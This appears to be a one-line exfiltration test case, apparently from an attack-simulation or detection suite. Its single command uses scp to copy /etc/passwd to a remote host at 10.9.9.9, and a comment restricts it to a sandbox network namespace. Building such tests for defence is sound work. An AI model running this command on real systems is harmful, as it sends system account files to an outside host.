# tactic: exfiltration
# copy the account file to another host with scp (the sandbox network namespace only)
scp -o ConnectTimeout=1 -o BatchMode=yes /etc/passwd u@10.9.9.9:/tmp/ 2>/dev/null; true
